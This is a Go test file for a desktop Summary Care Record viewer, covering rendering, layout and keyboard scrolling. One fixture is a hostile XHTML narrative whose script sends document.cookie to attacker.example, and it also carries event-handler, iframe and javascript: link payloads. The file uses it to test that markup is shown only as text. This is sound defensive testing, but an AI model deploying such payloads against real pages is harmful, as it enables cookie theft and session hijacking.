package patient

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/container"
	"fyne.io/fyne/v2/test"
	"fyne.io/fyne/v2/theme"
	"fyne.io/fyne/v2/widget"

	"scrdesk/internal/fhir"
	"scrdesk/internal/present"
	"scrdesk/screens/kit"
)

// hostileXHTML is a section narrative written to attack a viewer: script, event handlers,
// remote images, styles, iframes, forms and links. Only its text may reach the screen.
const hostileXHTML = `<div xmlns="http://www.w3.org/1999/xhtml">
<script>fetch("http://attacker.example/steal?c="+document.cookie)</script>
<style>body{background:url(http://attacker.example/bg.png)}</style>
<p onclick="alert(1)">Allergic to <b>penicillin</b> <img src="http://attacker.example/pixel.gif" onerror="alert(2)"/>(rash)</p>
<iframe src="http://attacker.example/frame"></iframe>
<table id="Allergies"><thead><tr><th>Date</th><th onmouseover="evil()">Description</th></tr></thead>
<tbody><tr><td>01-Jan-2020</td><td><a href="javascript:alert(3)">Latex</a> allergy<script>alert(4)</script></td></tr>
<tr><td>02-Jan-2020</td><td>&lt;script&gt;alert(5)&lt;/script&gt; written as text</td></tr></tbody></table>
<form action="http://attacker.example/post"><input name="x" value="typed"/></form>
<object data="http://attacker.example/x.swf">fallback text</object>
</div>`

// hostileRecord is the hostile-XHTML patient's record, through the same path as a real one.
func hostileRecord() present.RecordView {
	tables, text := fhir.ParseSectionXHTML(hostileXHTML)
	r := &fhir.Record{Practice: "The Hostile Surgery", Sections: []fhir.Section{
		{Code: fhir.CodeAllergies, Title: "Allergies and Adverse Reactions", Tables: tables, Text: text},
	}}
	return present.Record(r, nil, nil)
}

func initialSummary() present.RecordView {
	r := &fhir.Record{InitialSummary: true, Practice: "Fulford Grange Medical Practice, Rawdon, Leeds, LS19 7BY.",
		Sections: []fhir.Section{
			{Title: "Current Repeat Medications", Tables: []fhir.Table{{
				Headers: []string{"Medication Item", "Dosage Instructions", "Quantity"},
				Rows:    [][]string{{"Amlodipine 5mg tablets", "One Daily", "28 tablet"}}}}},
			{Title: "Allergies and Sensitivities", Tables: []fhir.Table{{
				Headers: []string{"Date", "Description"},
				Rows:    [][]string{{"03-Mar-2009", "Penicillin allergy"}}}}},
			{Title: "Acute Medications", Tables: []fhir.Table{{
				Headers: []string{"Medication Item", "Dosage Instructions", "Quantity"},
				Rows:    [][]string{{"No relevant information available for this category."}}}}},
		}}
	return present.Record(r, nil, nil)
}

func withheldRecord() present.RecordView {
	r := &fhir.Record{Practice: "EMISWebCR1 50004, Fulford Grange, Rawdon, Leeds, West Yorkshire, LS19 7BY.",
		Sections: []fhir.Section{
			{Code: "Title", Title: "General Practice Summary", Text: []string{
				"Summary Created: 02-Feb-2021 10:15",
				"At the time this record was created, this patient had recently registered with the GP Practice. GP Summary information may not be complete.",
			}},
			{Code: fhir.CodeAllergies, Title: "Allergies and Adverse Reactions", Tables: []fhir.Table{{
				Headers: []string{"Date", "Description", "Certainty", "Severity", "Supporting Information"},
				Rows:    [][]string{{"No relevant information available for this category."}}}}},
			{Code: fhir.CodeRepeatMeds, Title: "Current Repeat Medications", Text: []string{
				"Some information has been deliberately withheld from this section.",
			}, Tables: []fhir.Table{{
				Headers: []string{"Type", "Date", "Medication Item", "Dosage Instructions", "Quantity"},
				Rows:    [][]string{{"Repeat Medication", "Last Issued: 01-Feb-2021", "Sertraline 50mg tablets", "One Daily", "28 tablet"}}}}},
			{Code: "FutureThingHeader", Title: "A section this viewer does not know", Text: []string{
				"Plain text of an unknown section is shown, not dropped.", "Second paragraph.",
			}},
		}}
	return present.Record(r, nil, nil)
}

func TestRecordGoldens(t *testing.T) {
	cases := []struct {
		name string
		view func(t *testing.T) present.RecordView
		w, h float32
	}{
		{"record_gp_summary.xml", func(t *testing.T) present.RecordView { return sandboxRecord(t) }, 1280, 800},
		{"record_gp_summary_narrow.xml", func(t *testing.T) present.RecordView { return sandboxRecord(t) }, 900, 700},
		{"record_initial_summary.xml", func(*testing.T) present.RecordView { return initialSummary() }, 1280, 800},
		{"record_withheld_and_unknown.xml", func(*testing.T) present.RecordView { return withheldRecord() }, 1280, 800},
		{"record_hostile_xhtml.xml", func(*testing.T) present.RecordView { return hostileRecord() }, 1280, 800},
		{"record_200_rows.xml", func(*testing.T) present.RecordView { return longRecord(200) }, 1280, 800},
		{"record_restricted_practice_withheld.xml", func(t *testing.T) present.RecordView {
			r := recordFromBundle(t, filepath.Join(fixtures(t), "summary-care-record/specification-examples/GetScrBundle.json"))
			return present.Record(r, &fhir.Patient{Restriction: fhir.Restricted}, time.UTC)
		}, 1280, 800},
		{"record_spanning_cells.xml", func(*testing.T) present.RecordView {
			tables, _ := fhir.ParseSectionXHTML(`<table><thead><tr><th>Type</th><th>Date</th><th>Medication Item</th><th>Dosage Instructions</th><th>Quantity</th></tr></thead><tbody>` +
				`<tr><td rowspan="2">Acute Medication</td><td colspan="2">Prescribed: 01-Mar-2025, Amoxicillin 500mg capsules</td><td>One three times a day</td><td>21 capsule</td></tr>` +
				`<tr><td>Prescribed: 02-Mar-2025</td><td>Paracetamol 500mg tablets</td><td>Two four times a day</td></tr>` +
				`<tr><td colspan="5">Some information has been deliberately withheld from this summary.</td></tr></tbody></table>`)
			return present.Record(&fhir.Record{Sections: []fhir.Section{{Code: fhir.CodeAcuteMeds, Title: "Acute Medications", Tables: tables}}}, nil, time.UTC)
		}, 1280, 800},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			test.NewTempApp(t)
			r := NewRecord()
			win := show(t, r.Object(), c.w, c.h)
			r.Render(c.view(t))
			golden(t, win, c.name)
		})
	}
}

func TestRecordOrderAndText(t *testing.T) {
	test.NewTempApp(t)
	r := NewRecord()
	show(t, r.Object(), 1280, 800)
	v := sandboxRecord(t)
	r.Render(v)
	if r.rows[0].kind != rowHeading || !r.rows[0].allergy || r.rows[0].cells[0] != "Allergies and Adverse Reactions" {
		t.Fatalf("first row %+v; want the allergies heading", r.rows[0])
	}
	var headings []string
	for _, row := range r.rows {
		if row.kind == rowHeading {
			headings = append(headings, row.cells[0])
		}
	}
	want := []string{"Allergies and Adverse Reactions", "Acute Medications", "Current Repeat Medications",
		"Discontinued Repeat Medications", "Risks to Patient", "Diagnoses"}
	for i, w := range want {
		if !strings.HasPrefix(headings[i], w) {
			t.Errorf("heading %d = %q; want %q", i, headings[i], w)
		}
	}
	if !strings.Contains(r.title.Text, "created 14-May-2020 14:31") || !strings.Contains(r.meta.Text, "EMISWebCR1 50004") {
		t.Errorf("created date or practice missing: %q, %q", r.title.Text, r.meta.Text)
	}
	// The disclaimer (may not include everything) and "recently registered", first.
	if len(r.statements.Objects) != 2 {
		t.Errorf("record-wide statements shown: %d", len(r.statements.Objects))
	}
}

func TestRecordHostileXHTMLIsText(t *testing.T) {
	test.NewTempApp(t)
	r := NewRecord()
	win := show(t, r.Object(), 1280, 800)
	r.Render(hostileRecord())
	markup := test.RenderToMarkup(win.Canvas())
	for _, bad := range []string{"attacker.example", "document.cookie", "alert(1)", "alert(2)", "alert(3)", "alert(4)",
		"onerror", "onclick", "javascript:", "<img", "<iframe", "*widget.Hyperlink", "<image", "typed"} {
		if strings.Contains(markup, bad) {
			t.Errorf("rendered record holds %q", bad)
		}
	}
	for _, good := range []string{"penicillin", "Latex", "written as text"} {
		if !strings.Contains(markup, good) && !rowsContain(r, good) {
			t.Errorf("text %q was lost", good)
		}
	}
	// Markup-looking text from the record stays visible text; it is never interpreted.
	if !rowsContain(r, "<script>alert(5)</script> written as text") {
		t.Error("escaped markup in a cell was not kept as text")
	}
}

func rowsContain(r *Record, s string) bool {
	for _, row := range r.rows {
		for _, c := range row.cells {
			if strings.Contains(c, s) {
				return true
			}
		}
	}
	return false
}

func TestRecordLongTableRowsAndClear(t *testing.T) {
	test.NewTempApp(t)
	r := NewRecord()
	win := show(t, r.Object(), 1280, 800)
	r.Render(longRecord(200))
	// allergies: heading, columns, 1 row; repeats: heading, columns, 200 rows.
	if got := r.Rows(); got != 3+2+200 {
		t.Fatalf("rows = %d", got)
	}
	r.ScrollTo(r.Rows() - 1)
	markup := test.RenderToMarkup(win.Canvas())
	if strings.Count(markup, "Repeat Medication") > 60 {
		t.Errorf("list draws far more rows than fit the window")
	}
	r.Clear()
	if r.Rows() != 0 || r.meta.Text != "" || strings.Contains(r.title.Text, "created") {
		t.Errorf("Clear left %d rows, title %q, meta %q", r.Rows(), r.title.Text, r.meta.Text)
	}
	if strings.Contains(test.RenderToMarkup(win.Canvas()), "Paracetamol") {
		t.Error("the record is still on the canvas after Clear")
	}
}

// TestRecordRowHeightsFitText checks the wrapped-height estimate against what a label needs at
// the same width: a row is never shorter than its text.
func TestRecordRowHeightsFitText(t *testing.T) {
	for _, scale := range []float32{1, 1.5} {
		t.Run(fmt.Sprintf("text x%.1f", scale), func(t *testing.T) { checkRowHeights(t, scale) })
	}
}

// bigText is the default theme with text scaled, as a person's text-size setting does.
type bigText struct {
	fyne.Theme
	scale float32
}

func (b bigText) Size(n fyne.ThemeSizeName) float32 {
	switch n {
	case theme.SizeNameText, theme.SizeNameSubHeadingText, theme.SizeNameHeadingText:
		return b.Theme.Size(n) * b.scale
	}
	return b.Theme.Size(n)
}

func checkRowHeights(t *testing.T, scale float32) {
	test.NewTempApp(t)
	test.ApplyTheme(t, bigText{Theme: test.Theme(), scale: scale})
	r := NewRecord()
	show(t, r.Object(), 700, 600)
	for _, v := range []present.RecordView{longRecord(20), sandboxRecord(t), withheldRecord(), hostileRecord(), initialSummary()} {
		r.Render(v)
		checkRecordRowHeights(t, r)
	}
}

func checkRecordRowHeights(t *testing.T, r *Record) {
	m := newRowMetrics()
	for _, width := range []float32{500, 700, 1280} {
		for i, row := range r.rows {
			h := r.rowHeight(m, row, width)
			l := newCellLabel()
			l.TextStyle.Bold = row.kind != rowCells && row.kind != rowText && row.kind != rowSpan
			if row.kind == rowHeading {
				l.SizeName = "subHeadingText"
			}
			inner := width - rowGutter - theme.Size(theme.SizeNameScrollBar)
			widths := []float32{inner}
			if row.kind == rowColumns || row.kind == rowCells {
				widths = r.tables[row.table].widths(inner)
			}
			for j, c := range row.cells {
				l.SetText(c)
				l.Resize(fyneSize(widths[j], 1000))
				need := l.MinSize().Height
				if need > h+0.5 {
					t.Errorf("width %v row %d cell %d %q: row %v high, text needs %v", width, i, j, c, h, need)
				}
			}
		}
	}
}

func TestRecordRowsText(t *testing.T) {
	rows, tables := flatten(withheldRecord().Sections)
	var got []string
	for _, r := range rows {
		got = append(got, fmt.Sprintf("%d:%s", r.kind, strings.Join(r.cells, "|")))
	}
	joined := strings.Join(got, "\n")
	for _, want := range []string{
		"4:Some information has been deliberately withheld from this section.",
		"5:Plain text of an unknown section is shown, not dropped.",
		"3:No relevant information available for this category.",
	} {
		if !strings.Contains(joined, want) {
			t.Errorf("rows lack %q:\n%s", want, joined)
		}
	}
	if len(tables) != 2 {
		t.Errorf("tables = %d", len(tables))
	}
}

func TestRecordKeyboardScroll(t *testing.T) {
	test.NewTempApp(t)
	r := NewRecord()
	win := show(t, r.Object(), 1280, 800)
	r.Render(longRecord(200))
	test.RenderToMarkup(win.Canvas())
	off := func() float32 { return r.body.list.GetScrollOffset() }
	steps := []struct {
		key  fyne.KeyName
		more bool // the offset grows (false: shrinks or is 0)
	}{
		{fyne.KeyPageDown, true}, {fyne.KeyDown, true}, {fyne.KeyUp, false}, {fyne.KeyPageUp, false},
		{fyne.KeyEnd, true}, {fyne.KeyHome, false},
	}
	for _, s := range steps {
		before := off()
		if !r.TypedKey(&fyne.KeyEvent{Name: s.key}) {
			t.Fatalf("%s not used", s.key)
		}
		if after := off(); s.more != (after > before) {
			t.Errorf("%s: offset %v -> %v", s.key, before, after)
		}
	}
	if r.TypedKey(&fyne.KeyEvent{Name: fyne.KeyA}) {
		t.Error("A was used")
	}
}

// TestRecordKeysWhateverHasTheFocus: after a click in the record (the list takes the focus), or
// with a button focused, Page Down and End still scroll the record and Escape still reaches the
// window (which closes the patient): nothing focusable swallows them.
func TestRecordKeysWhateverHasTheFocus(t *testing.T) {
	test.NewTempApp(t)
	r := NewRecord()
	closeBtn := kit.NewButton("Close patient (Esc)", nil, nil)
	win := show(t, container.NewBorder(closeBtn, nil, nil, nil, r.Object()), 1280, 800)
	r.Render(longRecord(200))
	test.RenderToMarkup(win.Canvas())
	escapes := 0
	win.Canvas().SetOnTypedKey(func(ev *fyne.KeyEvent) {
		if !r.TypedKey(ev) && ev.Name == fyne.KeyEscape {
			escapes++
		}
	})
	off := func() float32 { return r.body.list.GetScrollOffset() }
	for _, focus := range []fyne.Focusable{r.body.list, closeBtn} {
		r.TypedKey(&fyne.KeyEvent{Name: fyne.KeyHome})
		win.Canvas().Focus(focus)
		before := off()
		win.Canvas().Focused().TypedKey(&fyne.KeyEvent{Name: fyne.KeyPageDown})
		if off() <= before {
			t.Errorf("%T focused: Page Down did not scroll (%v -> %v)", focus, before, off())
		}
		win.Canvas().Focused().TypedKey(&fyne.KeyEvent{Name: fyne.KeyEnd})
		end := off()
		win.Canvas().Focused().TypedKey(&fyne.KeyEvent{Name: fyne.KeyDown})
		if off() != end || end < 1000 {
			t.Errorf("%T focused: End reached %v", focus, end)
		}
		win.Canvas().Focused().TypedKey(&fyne.KeyEvent{Name: fyne.KeyEscape})
	}
	if escapes != 2 {
		t.Errorf("Escape reached the window %d times, want 2", escapes)
	}
}

// TestRecordKeepsItsPlace: the window re-renders the record whenever anything changes (an alert
// delivered, the connection); the reader's place is kept, also when the width changes; and a
// record cleared while its old list had the focus draws nothing stale.
func TestRecordKeepsItsPlace(t *testing.T) {
	test.NewTempApp(t)
	r := NewRecord()
	win := show(t, r.Object(), 1280, 800)
	v := longRecord(200)
	r.Render(v)
	test.RenderToMarkup(win.Canvas())
	r.TypedKey(&fyne.KeyEvent{Name: fyne.KeyPageDown})
	r.TypedKey(&fyne.KeyEvent{Name: fyne.KeyPageDown})
	at := r.body.list.GetScrollOffset()
	if at == 0 {
		t.Fatal("did not scroll")
	}
	r.Render(longRecord(200)) // the same record again
	test.RenderToMarkup(win.Canvas())
	if got := r.body.list.GetScrollOffset(); got != at {
		t.Errorf("a re-render moved the record from %v to %v", at, got)
	}
	win.Resize(fyne.NewSize(1100, 800))
	test.RenderToMarkup(win.Canvas())
	if got := r.body.list.GetScrollOffset(); got == 0 {
		t.Error("a narrower window sent the record back to the top")
	}
	old := r.body.list
	win.Canvas().Focus(old)
	r.Clear()
	win.Canvas().Unfocus() // the old list refreshes its rows on losing the focus: no stale index
	test.RenderToMarkup(win.Canvas())
}

// TestRecordHeaderScrollsWithTheRows: the record's header (title, practice, the record-wide
// statements such as "may not include all the information") is the list's first item, so the
// list has the whole record area below a fixed banner; at the top the header shows above the
// first section, a Page Down scrolls it away with the rows while the banner stays where it
// was, and Home brings it back.
func TestRecordHeaderScrollsWithTheRows(t *testing.T) {
	test.NewTempApp(t)
	r := NewRecord()
	banner := widget.NewLabel("BANNER: the patient")
	win := show(t, container.NewBorder(banner, nil, nil, nil, r.Object()), 1280, 800)
	v := sandboxRecord(t)
	r.Render(v)
	test.RenderToMarkup(win.Canvas())
	d := fyne.CurrentApp().Driver()
	y := func(o fyne.CanvasObject) float32 { return d.AbsolutePositionForObject(o).Y }
	bannerAt := y(banner)
	list := r.body.list
	if y(list) != y(r.Object()) || list.Size().Height != r.Object().Size().Height {
		t.Fatalf("the list is at %v, %v high; the record area at %v, %v high: something is fixed above the list",
			y(list), list.Size().Height, y(r.Object()), r.Object().Size().Height)
	}
	if list.Size().Height < 800-banner.MinSize().Height-20 {
		t.Errorf("the list is only %v high in an 800 px window", list.Size().Height)
	}
	statement := r.statements.Objects[0].(*widget.Label)
	if !strings.Contains(statement.Text, "may not include all") {
		t.Fatalf("first statement %q", statement.Text)
	}
	rows := listRows(r)
	if len(rows) == 0 || y(r.title) != y(list) || y(statement)+statement.Size().Height > rows[0].pos.Y || rows[0].texts[0] != r.rows[0].cells[0] {
		t.Errorf("at the top: title at %v, statement ends at %v, first row %q at %v; the list at %v",
			y(r.title), y(statement)+statement.Size().Height, rows[0].texts, rows[0].pos.Y, y(list))
	}
	r.TypedKey(&fyne.KeyEvent{Name: fyne.KeyPageDown})
	test.RenderToMarkup(win.Canvas())
	if list.GetScrollOffset() <= r.header.Size().Height || y(banner) != bannerAt {
		t.Errorf("after Page Down the list is at %v (header %v high), the banner at %v (was %v)",
			list.GetScrollOffset(), r.header.Size().Height, y(banner), bannerAt)
	}
	r.TypedKey(&fyne.KeyEvent{Name: fyne.KeyHome})
	test.RenderToMarkup(win.Canvas())
	if list.GetScrollOffset() != 0 || y(r.title) != y(list) {
		t.Errorf("after Home the list is at %v, the title at %v (the list at %v)", list.GetScrollOffset(), y(r.title), y(list))
	}
}
